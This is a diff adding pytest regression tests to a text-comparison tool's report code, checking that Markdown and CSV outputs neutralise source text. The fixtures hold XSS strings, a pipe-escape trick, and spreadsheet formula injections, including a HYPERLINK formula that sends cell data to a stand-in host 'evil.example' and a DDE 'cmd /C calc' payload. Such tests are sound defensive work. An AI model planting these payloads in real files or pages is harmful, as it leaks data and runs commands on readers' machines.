@@ -4,6 +4,7 @@ ever evaluated as code."""
 import ast
 import json
 import os
+import re
 
 import pytest
 from conftest import ROOT
@@ -70,3 +71,81 @@ def test_no_input_is_evaluated_as_code():
                 if k.arg == "shell" and isinstance(k.value, ast.Constant) and k.value.value is True:
                     problems.append(f"{where} shell=True")
     assert not problems, problems
+
+
+_PAYLOAD = (
+    'A source quotes <img src=x onerror="alert(1)"> and [a link](javascript:alert(2)), '
+    r"a path C:\| with a backslash before a pipe, `ticks` | and pipes |."
+)
+
+
+@pytest.fixture
+def payload_report(tmp_path, use_fake_encoder):
+    import comparekit
+    from comparekit.report import build_report
+
+    shared = "The ministry said 42 people were evacuated from Riverton on Monday. "
+    a = tmp_path / "a.txt"
+    b = tmp_path / "b.txt"
+    a.write_text(
+        f'{shared}{_PAYLOAD}\n\n=HYPERLINK("http://evil.example/?"&A1,"open") said the page.\n', "utf-8"
+    )
+    b.write_text(
+        f"{shared}{_PAYLOAD}\n\n+cmd|' /C calc'!A0 and -2+3+cmd|' /C calc'!A0 and @SUM(1).\n", "utf-8"
+    )
+    return build_report(comparekit.compare([a, b]))
+
+
+def test_report_md_renders_no_source_html_and_keeps_its_tables(payload_report):
+    """report.md: text from a source never becomes HTML, a link or a table column when the
+    Markdown is rendered (a backslash before a pipe used to close the cell: `\\\\|`)."""
+    from markdown_it import MarkdownIt
+
+    from comparekit.report.markdown import render_markdown
+
+    md = render_markdown(payload_report)
+    html = MarkdownIt("commonmark").enable("table").render(md)
+    assert "<img" not in html and "<a " not in html
+    assert "C:\\| with" in html  # the backslash is shown, and the pipe stays in its cell
+    header_cells = None
+    for line in md.splitlines():
+        if not line.startswith("|"):
+            header_cells = None
+            continue
+        cells = len(re.split(r"(?<!\\)\|", line.replace("\\\\", "")))
+        header_cells = header_cells or cells
+        assert cells == header_cells, line
+
+
+def test_csv_text_cells_never_start_a_spreadsheet_formula(payload_report):
+    """A scraped line like =HYPERLINK(...) or +cmd|'/C calc'!A0 was written as is into the
+    CSV tables, which Excel, LibreOffice and Google Sheets run as a formula when a
+    fact-checker opens them. Text cells that start with = + - @ (or a tab / CR) now get a
+    leading apostrophe; report.json keeps the exact text."""
+    import csv
+    import io
+
+    from comparekit.report.tables import alignments_csv, flags_csv, segments_csv
+
+    texts = [s["text"] for d in payload_report["documents"] for s in d["segments"]]
+    risky = [t for t in texts if t[:1] in "=+-@"]
+    assert len(risky) >= 2  # the payloads became segments of their own
+    seen = set()
+    for table in (segments_csv, alignments_csv, flags_csv):
+        for row in csv.DictReader(io.StringIO(table(payload_report))):
+            for col in ("text", "message", "suggestion", "divergences", "a_text", "b_text"):
+                value = row.get(col) or ""
+                assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (table.__name__, col, value)
+                if value.startswith("'"):
+                    seen.add(value[1:])
+    assert set(risky) <= seen
+
+
+def test_corpus_tables_guard_text_cells_only():
+    from comparekit.corpus.output import _csv
+
+    table = _csv(
+        [{"text": "=1+1", "title": "@SUM(1)", "outlet": "-x", "start": -1}],
+        ["text", "title", "outlet", "start"],
+    )
+    assert table.splitlines()[1] == "'=1+1,'@SUM(1),-x,-1"
